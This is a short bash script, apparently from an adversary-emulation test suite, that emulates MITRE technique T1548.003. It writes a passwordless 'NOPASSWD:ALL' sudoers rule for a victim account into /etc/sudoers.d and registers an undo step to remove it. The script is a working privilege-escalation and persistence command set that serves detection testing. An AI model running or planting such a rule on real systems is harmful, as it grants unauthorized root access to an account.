#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1548.003
# tactic: privilege-escalation
# what: a NOPASSWD rule dropped into /etc/sudoers.d
. "$AT_LIB"
at_undo "rm -f /etc/sudoers.d/plattack"
mkdir -p /etc/sudoers.d
echo "$AT_VICTIM ALL=(ALL) NOPASSWD:ALL" >/etc/sudoers.d/plattack
chmod 440 /etc/sudoers.d/plattack
